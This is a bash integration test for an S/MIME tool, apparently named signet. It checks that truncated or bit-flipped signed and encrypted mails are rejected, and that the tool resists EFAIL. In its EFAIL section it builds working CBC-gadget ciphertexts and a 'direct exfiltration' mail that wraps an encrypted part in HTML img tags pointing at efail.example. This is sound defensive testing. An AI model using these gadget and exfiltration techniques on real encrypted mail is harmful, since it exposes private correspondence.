#!/usr/bin/env bash
# SPDX-License-Identifier: LGPL-2.1-or-later
# shellcheck disable=SC2016,SC2317  # programs in quotes; functions called by name
#
# Messages that were cut or altered on the way, through the programs: nothing altered is ever good, nothing but
# a whole mail ever comes out; and EFAIL (https://efail.de): no gadget in CBC, no stitching of parts.
sandbox=(--id "alice@example.org,ec:p256" --contact bob@example.org)
# shellcheck source=tests/integration/lib.bash
. "$(dirname "$0")/lib.bash"
signet_ id cert alice@example.org -o alice.pem
mail alice@example.org >mail.eml
signet_ sign -o signed.eml mail.eml
signet_ sign --opaque -o opaque.eml mail.eml
signet_ sign --cms der --id alice@example.org -o signed.der mail.eml
signet_ encrypt --to alice.pem --cipher aes-256-gcm -o gcm.eml mail.eml
signet_ encrypt --to alice.pem --cipher aes-256-cbc -o cbc.eml mail.eml
signet_ encrypt --sign --to alice.pem --cipher aes-256-cbc -o both.eml mail.eml

stride=37
if grep -q -a -F __asan_init "$SIGNET_TEST_BUILD/signet"; then stride=185; fi # each run takes ten times as long

# --- a sample of cuts and flips -----------------------------------------------------------------

cut_or_flip() { # cut_or_flip FILE cut|flip AT OUT
  if [[ $2 = cut ]]; then
    head -c "$3" "$1" >"$4"
  else
    perl -e 'local $/; open my $f, "<:raw", $ARGV[0]; $_ = <$f>; substr($_, $ARGV[1], 1) ^= chr(1 << $ARGV[1] % 7); binmode STDOUT; print' \
      "$1" "$3" >"$4"
  fi
}
# each_way "what" FILE command…: the command's exit 0 must leave `got` as it is for the whole file; what it is
# otherwise counts, too.
each_way() {
  local what=$1 file=$2 how at status wrong statuses
  shift 2
  rm -f got
  "$@" "$file" >"$work/out" 2>"$work/err"
  result $? "$what: whole, it is good"
  mv got wanted
  for how in cut flip; do
    wrong='' statuses=''
    for ((at = 5; at < $(wc -c <"$file"); at += stride)); do
      rm -f got
      cut_or_flip "$file" $how "$at" altered
      "$@" altered >"$work/out" 2>"$work/err" </dev/null
      status=$?
      statuses+=$status
      if ((status == 0)) && ! cmp -s got wanted; then wrong+=" $how at $at: good;"; fi
      if ((status != 0)) && [[ -e got ]]; then wrong+=" $how at $at: failed, but wrote;"; fi
      if ((status != 0 && status != 1 && status != 3)); then wrong+=" $how at $at: status $status;"; fi
      if grep -q -a -E 'CRITICAL|WARNING|Sanitizer|dumped' "$work/err"; then wrong+=" $how at $at: a fault of ours;"; fi
    done
    is "$wrong" "" "$what: $how, exit statuses $(fold -w 1 <<<"$statuses" | sort | uniq -c | awk '{ printf "%s: %s times  ", $2, $1 }')"
  done
}
verified() { signet_ verify -o got "$1"; }
verified_detached() { # no content comes out of a signed mail: the part itself is compared
  signet_ verify "$1" || return
  awk '/^--/ { n++ } n == 1' "$1" >got
}
opened() { signet_ decrypt -o opened "$1" && body opened >got; }
each_way "multipart/signed" signed.eml verified_detached
each_way "opaque mail" opaque.eml verified
each_way "CMS file" signed.der signet_ verify --cms der -o got
each_way "sealed, GCM" gcm.eml opened

# In CBC a flip may pass: then it is a mail still, and that it may have been altered is said.
wrong='' passed=0
for ((at = $(grep -b -m 1 '^$' cbc.eml | cut -d: -f1) + 40; at < $(wc -c <cbc.eml); at += stride)); do
  cut_or_flip cbc.eml flip "$at" altered
  rm -f got
  signet_ decrypt -o got altered >"$work/out" 2>"$work/err"
  status=$?
  if ((status == 0)) && ! cmp -s <(body got) <(body mail.eml); then
    passed=$((passed + 1))
    grep -q -i alter "$work/err" || wrong+=" at $at: not said;"
    grep -q -i '^content-type: text/plain' got || wrong+=" at $at: no mail;"
  fi
  if ((status > 1)) || { ((status)) && [[ -e got ]]; }; then wrong+=" at $at: status $status;"; fi
done
is "$wrong" "" "sealed, CBC: flips that pass ($passed) are mails that may have been altered"
exits 0 "what CBC sealed and nobody signed" signet_ decrypt -o got cbc.eml
says err "[Aa]lter" "may have been altered, says the verdict"
exits 0 "GCM" signet_ decrypt -o got gcm.eml
says_not err "may have been altered" "cannot"
trust alice.pem
exits 0 "CBC with a good signature inside" signet_ decrypt -o got both.eml
says_not err "may have been altered" "was not"

# --- EFAIL ----------------------------------------------------------------------------------------

# An attacker knows how a mail begins, so knows 16 bytes of plaintext: xor of what he knows and what
# he wants into the IV gives him the first block, the two before each gadget the others.
printf 'Content-Type: multipart/signed; micalg=sha-256\r\n\r\nThe word is marzipan, and so on and on for some blocks.\r\n' >known
openssl cms -encrypt -aes-256-cbc -binary -in known -outform DER -out known.der alice.pem
gadget() { # gadget WANT BLOCK: puts WANT (16 bytes) where block BLOCK of the plaintext was; known.der to known-altered.der
  perl -e '
    my ($want, $block) = @ARGV; local $/; open my $f, "<:raw", "known.der"; my $der = <$f>; open my $p, "<:raw", "known"; my $plain = <$p>;
    my $cipher = 16 * (int(length($plain) / 16) + 1); my $start = length($der) - $cipher;
    my $iv = index($der, pack("H*", "06096086480165030401" . "2a0410")) + 13;
    my $at = $block == 0 ? $iv : $start + 16 * ($block - 1);
    substr($der, $at, 16) = substr($der, $at, 16) ^ substr($plain, 16 * $block, 16) ^ substr($want . " " x 16, 0, 16);
    binmode STDOUT; print $der' "$1" "$2" >altered.der
  { printf 'From: bob@example.org\nMIME-Version: 1.0\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\n'
    printf 'Content-Transfer-Encoding: base64\n\n' && base64 altered.der; } >gadget.eml
}
opens_by_openssl() { # the key is on the token: a twin in a file, to see that the gadget is one
  openssl cms -decrypt -inform DER -in "$1" -inkey "$contacts/bob@example.org.key" -recip "$contacts/bob@example.org.pem" -out gadget.plain
}
openssl cms -encrypt -aes-256-cbc -binary -in known -outform DER -out known.der "$contacts/bob@example.org.pem"
gadget 'Content-Type: te' 0
ok "(openssl opens the gadget)" opens_by_openssl altered.der
is "$(head -c 16 gadget.plain)" 'Content-Type: te' "(it begins as the attacker wants)"
openssl cms -encrypt -aes-256-cbc -binary -in known -outform DER -out known.der alice.pem
refused_or_said() { # refused_or_said "what"
  local status
  rm -f got
  signet_ decrypt -o got gadget.eml >"$work/out" 2>"$work/err"
  status=$?
  if ((status == 0)); then
    grep -q -i alter "$work/err"
    result $? "$1: opened, and that it may have been altered is said"
  else
    [[ $status = 1 && ! -e got ]]
    result $? "$1: refused"
  fi
  exits 3 "$1: not where a signature is required" sh -c '
    timeout 60 signet --no-input decrypt --require-signed -o got2 gadget.eml; s=$?; [ ! -e got2 ] && { [ $s = 1 ] && exit 3; exit $s; }'
}
for want in 'Content-Type: te' '<img src="http:/' $'X: y\r\n\r\n<img s' $'\r\n\r\n<img src="h' $'\001\002\003\004\005\006\007\010\016\017\020\021\022\023\024\025'; do
  gadget "$want" 0
  refused_or_said "first block: $(tr -d -c ' -~' <<<"$want")"
done
gadget '<img src="http:/' 0
exits 1 "a first line that is no header field: refused" signet_ decrypt -o got gadget.eml
for block in 1 2 4 5 6; do
  gadget '<img src="http:/' "$block"
  refused_or_said "block $block, the one before it garbage"
done

# Direct exfiltration: parts that would be stitched together by a reader.
openssl cms -encrypt -aes-256-cbc -in mail.eml -out seal.eml alice.pem
sed -n '/^Content-Type/I,$p' seal.eml >seal.part
{
  printf 'From: alice@example.org\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n'
  printf -- '--b\nContent-Type: text/html\n\n<img src="http://efail.example/\n--b\n'
  cat seal.part
  printf -- '\n--b\nContent-Type: text/html\n\n">\n--b--\n'
} >direct.eml
signet_ decrypt -o got direct.eml >"$work/out" 2>"$work/err"
status=$?
if ((status == 0)); then
  grep -q marzipan got && ! grep -q efail got
  result $? "a sealed part between others: it alone comes out"
else
  [[ $status = 1 && ! -e got ]]
  result $? "a sealed part between others: refused"
fi
exits 3 "verify: not signed, or not known" signet_ verify direct.eml
signet_ info direct.eml >"$work/out" 2>"$work/err"
result $? "info says what it is"
{
  printf 'From: alice@example.org\nMIME-Version: 1.0\nContent-Type: text/html\n\n<img src="http://efail.example/\n'
  cat seal.part
} >body.eml
exits 1 "sealed text in the body of another mail is not opened" signet_ decrypt -o got2 body.eml
is "$(ls got2 2>/dev/null)" "" "and nothing is written"

# A sealed mail of Alice's inside another's signature: whose is the verdict?
openssl cms -sign -in seal.part -signer "$contacts/bob@example.org.pem" -inkey "$contacts/bob@example.org.key" -out wrapped 2>/dev/null
{ printf 'From: bob@example.org\n' && cat wrapped; } >outer.eml
exits 0 "a seal inside a signature" signet_ --json decrypt -o got outer.eml
is "$(grep -c marzipan got)" 1 "opens"
finish
